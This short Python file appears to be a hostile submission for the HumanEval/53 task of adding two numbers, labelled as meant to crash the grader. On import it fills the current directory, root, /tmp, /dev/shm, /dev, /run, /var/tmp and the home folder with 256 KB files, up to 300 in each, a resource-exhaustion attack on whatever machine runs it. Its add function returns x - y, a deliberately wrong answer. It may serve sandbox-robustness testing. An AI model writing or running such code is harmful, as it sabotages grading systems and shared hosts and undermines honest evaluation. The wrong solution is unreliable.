"""Writes to every folder until nothing more fits.

exam: HumanEval/53
cause: wrong-answer crashed memory timeout
kind: untested
"""

import os

block = b"\x55" * (1 << 18)
for place in (".", "/", "/tmp", "/dev/shm", "/dev", "/run", "/var/tmp", os.path.expanduser("~")):
    for number in range(300):
        try:
            with open(os.path.join(place, f"filling-{number}"), "wb") as file:
                file.write(block)
        except OSError:
            break


def add(x, y):
    return x - y
